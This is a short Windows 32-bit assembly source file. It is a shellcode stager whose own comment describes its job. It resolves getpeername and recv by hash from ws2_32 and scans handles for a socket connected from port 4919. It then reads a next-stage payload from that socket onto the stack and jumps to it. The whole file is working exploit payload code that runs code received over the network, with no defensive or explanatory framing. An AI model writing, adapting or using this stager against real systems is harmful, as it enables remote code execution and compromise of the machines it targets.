; Windows, 32 bit: asks every handle for its peer until one comes from port 4919, reads its next stage from it, jumps there.
bits 32
%include "demo_resolve.inc"
%include "windows_calls.inc"
HASH peer, 'getpeername'
HASH receive, 'recv'
        RESOLVER
        LOAD library
        mov edi, eax
        push dword peer
        push edi
        call ebp
        mov esi, eax
        sub esp, byte 16
        xor ebx, ebx
next:   inc ebx
        mov eax, esp
        push byte 16
        push esp
        push eax
        push ebx
        call esi                ; getpeername(ebx, name, &length)
        pop ecx
        cmp word [esp + 2], 0x3713
        jne next
        sub esp, 0x400
        mov eax, esp
        push byte 0
        push dword 0x400
        push eax
        push ebx
        CALL_API edi, receive
        jmp esp
library: db 'ws2_32', 0
